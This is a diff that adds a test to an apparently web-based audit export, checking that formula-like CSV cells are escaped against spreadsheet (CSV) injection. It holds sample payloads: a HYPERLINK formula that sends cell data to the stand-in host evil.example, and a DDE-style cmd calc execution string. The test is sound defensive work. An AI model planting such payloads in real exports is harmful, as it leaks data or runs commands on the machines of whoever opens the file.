@@ -153,3 +153,20 @@ def test_findings_filter_sort_and_times_in_the_display_zone_in_a_browser(tmp_pat
         assert got.value.suggested_filename == "steward-findings.csv"
         browser.close()
     assert errors == []
+
+
+def test_a_csv_cell_a_spreadsheet_would_run_as_a_formula_is_written_as_text(client):
+    """A reason from a chat message or the API is the sender's text: `=HYPERLINK(...)` in a CSV opened in Excel is a
+    live link (OWASP CSV injection). In CSV it starts with `'`; JSON keeps it as it was."""
+    formula = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
+    runtime = client.app.state.runtime
+    runtime.deps.audit.record("exemption", at=runtime.deps.clock.now(), run_id="test", target="ml-team/jupyter-carol",
+                              status="granted", reason=formula, data={"until": "2026-11-03T00:00:00+00:00"})
+    runtime.deps.audit.record("decision", at=runtime.deps.clock.now(), run_id="test", target="@SUM(1+1)*cmd|' /C calc'!A0",
+                              action="keep", status="refused", reason="-2+3", data={})
+    rows = _csv(client.get("/api/audit/export?format=csv", headers=VIEWER).text)
+    cells = [v for r in rows for v in r.values() if v]
+    assert "'" + formula in cells and "'-2+3" in cells and "'@SUM(1+1)*cmd|' /C calc'!A0" in cells
+    assert not [v for v in cells if v[0] in "=+-@\t\r"]
+    as_json = client.get("/api/audit/export?format=json", headers=VIEWER).json()
+    assert formula in [e["reason"] for e in as_json]
